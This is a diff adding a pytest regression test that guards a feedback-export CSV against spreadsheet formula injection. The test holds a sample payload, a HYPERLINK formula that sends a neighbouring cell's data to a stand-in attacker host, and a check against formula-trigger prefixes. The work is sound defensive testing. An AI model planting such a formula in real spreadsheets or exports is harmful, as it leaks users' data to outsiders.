@@ -6,6 +6,7 @@ import pytest
 
 from guidance.evaluation.dataset import EvalSetError, parse_eval_set
 from guidance.evaluation.feedback_drafts import draft_case, drafts_csv, thumbs_down
+from guidance.evaluation.spreadsheet import safe_row
 from guidance.feedback import FeedbackStore
 from guidance.models import Answer, Citation
 
@@ -49,3 +50,23 @@ def test_a_draft_must_be_completed_before_it_can_run(feedback_db):
     assert [(c.behaviour, c.expected_sections, c.must_mention) for c in cases] == [
         ("answer", ["social-media-guidance#3.3"], ["predetermin"]), ("decline", [], []),
     ]
+
+
+def test_a_question_shaped_like_a_formula_never_runs_in_a_spreadsheet_and_reads_back_as_asked():
+    """A member asking '=HYPERLINK(…)' and rating the answer down put a live formula into the officers' download."""
+    import csv
+    import io
+
+    asked = '=HYPERLINK("https://evil.example/?d="&B2,"Open the guidance")'
+    row = {"id": 7, "question": asked, "comment": "@everyone look", "status": "answered", "citations": [],
+           "created_at": "2026-12-06T10:00:00"}
+    cells = [cell for line in csv.reader(io.StringIO(drafts_csv([row]))) for cell in line]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], cells
+
+    completed = {**draft_case(row), "behaviour": "decline"}  # as an officer completes the draft and uploads it
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=list(completed))
+    writer.writeheader()
+    writer.writerow(safe_row(completed))
+    [case] = parse_eval_set(out.getvalue(), ".csv", "drafts.csv")
+    assert case.question == asked
